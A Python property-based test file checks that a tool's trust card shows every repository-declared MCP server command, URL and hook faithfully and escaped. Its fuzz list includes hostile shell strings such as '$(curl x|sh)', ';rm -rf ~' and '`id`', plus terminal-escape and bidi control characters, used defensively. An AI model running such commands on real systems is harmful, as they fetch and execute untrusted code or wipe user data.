"""The trust card tells the truth whatever a repository names its servers and hooks
(docs/decisions.md §11): property tests over hostile text — tmux formats, shell substitutions,
quotes, newlines, control characters, right-to-left marks, undecodable bytes, 4 KB names.

Read from the card as a person reads it, every entry gives back exactly the command (or URL)
and the name the repository wrote, in the files' order, the command first; nothing is cut,
nothing unescaped can pass for the card's own words, and the terminal REPL's Rich markup shows
the same text as the web.
"""

from __future__ import annotations

import json
import re
import shlex
import tempfile
import unicodedata
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from omnigent.community.harness.agy.trust_card import trust_message, trust_params
from rich.text import Text

from omnigent_agy.agy.shown import unvisible
from omnigent_agy.agy.trust_store import why_asked_again
from omnigent_agy.agy.workspace_runs import workspace_runs
from omnigent_agy.cli.trust_command import runs_lines
from omnigent_agy.interactions.prompts import TrustCard

PIECES = [
    "#(touch PWNED)",
    "#{pane_id}",
    "$(curl x|sh)",
    "`id`",
    ";rm -rf ~",
    "'",
    '"',
    "\\",
    '\\"',
    "\n",
    "\r",
    "\x1b[2J",
    "\x00",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\udcff",
    " — MCP server ",
    '" — hook "Stop"; (2) runs "',
    "[bold]",
    "[/x]",
    "…",
    "prettier (npx prettier --check .) - formatter used by CI, read-only, nothing else runs",
]
hostile = st.lists(
    st.one_of(st.sampled_from(PIECES), st.text(max_size=20)), min_size=1, max_size=12
).map("".join)
long_name = st.builds(lambda base, n: (base * n)[:4096], hostile.filter(bool), st.just(4096))
ENTRY = re.compile(
    r'(runs|connects to) "((?:[^"\\]|\\.)*)" — (MCP server|remote MCP server|hook) '
    r'"((?:[^"\\]|\\.)*)"'
)
HIDDEN = frozenset({"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"})


def entries_read_back(text: str) -> list[tuple[str, str, str]]:
    return [(kind, unvisible(runs), unvisible(name)) for _, runs, kind, name in ENTRY.findall(text)]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    servers=st.lists(
        st.tuples(st.one_of(hostile, long_name), hostile, st.lists(hostile, max_size=3)),
        min_size=1,
        max_size=3,
        unique_by=lambda server: server[0],
    ),
    hook=hostile,
    url=hostile,
)
def test_the_card_shows_every_command_first_in_full_and_faithfully(
    servers: list[tuple[str, str, list[str]]], hook: str, url: str
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        workspace = Path(folder)
        (workspace / ".agents").mkdir()
        named: dict[str, object] = {
            name: {"command": command, "args": args} for name, command, args in servers
        }
        named["remote\n#(x)"] = {"serverUrl": url}
        (workspace / ".agents" / "mcp_config.json").write_text(json.dumps({"mcpServers": named}))
        group = {"hooks": [{"type": "command", "command": hook}]}
        (workspace / ".agents" / "hooks.json").write_text(json.dumps({"hooks": {"Stop": [group]}}))
        runs = workspace_runs(workspace)
        listing = "\n".join(runs_lines(runs, "trusting it lets agy run:"))

    # Asked again after all of it was added since a yes: the changes say it as faithfully.
    again = why_asked_again({"trusted_at": "t", "digest": "d", "covers": []}, runs)
    card = TrustCard("/work/clone", runs.lines(), again)
    message = trust_message(card, harness_label="Antigravity CLI")
    changes, listed = message.split(" — Accessing workspace: /work/clone — ", 1)
    expected = [
        ("MCP server", shlex.join([command, *args]), name) for name, command, args in servers
    ]
    expected += [("remote MCP server", url, "remote\n#(x)"), ("hook", hook, "Stop")]
    # Every entry reads back exactly, in order, the command before the name: nothing cut.
    assert entries_read_back(listed) == expected
    assert sorted(entries_read_back(changes)) == sorted(expected)
    assert entries_read_back(listing) == expected  # `omnigent-agy trust FOLDER` too
    # Nothing hidden or acting reaches the page or the terminal.
    assert not [c for c in message if unicodedata.category(c) in HIDDEN]
    # The REPL's Rich markup shows the web's text, neither styled nor cut.
    shown = trust_params(card, harness_label="Antigravity CLI").message
    assert Text.from_markup(shown).plain == message
